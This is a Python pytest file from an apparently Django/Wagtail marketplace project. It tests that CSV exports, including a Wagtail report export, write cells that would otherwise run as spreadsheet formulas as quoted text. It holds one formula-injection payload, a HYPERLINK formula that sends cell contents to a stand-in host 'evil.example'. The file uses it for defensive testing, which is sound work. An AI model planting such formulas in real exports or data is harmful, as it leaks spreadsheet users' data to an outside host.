"""Every CSV export writes a cell a spreadsheet would run as a formula as text (marketplace/core/csv_export).

The operators' statement and Oscar's order list are tested in tests/packages/test_operator_statement.py."""

import csv
import io

import pytest
from django.urls import reverse
from wagtail.models import Page

from marketplace.core.csv_export import csv_cell
from marketplace.core.roles import Role
from tests.cms.conftest import site_tree  # noqa: F401  (fixture)
from tests.factories import UserFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Apri")'


def test_csv_cell_leaves_numbers_and_plain_text_alone():
    assert [csv_cell(v) for v in ("-12.50", "+3", -4, "Lucca", "", None, "-", "\tx", "\rx", "@x")] == [
        "-12.50", "+3", -4, "Lucca", "", None, "'-", "'\tx", "'\rx", "'@x"
    ]  # fmt: skip


@pytest.mark.django_db
def test_wagtail_report_exports_write_a_formula_title_as_text(client, site_tree):  # noqa: F811
    page = Page.objects.filter(depth=3).first()
    Page.objects.filter(pk=page.pk).update(title=FORMULA)
    client.force_login(UserFactory(role=Role.STAFF))

    response = client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})

    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(b"".join(response.streaming_content).decode())) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
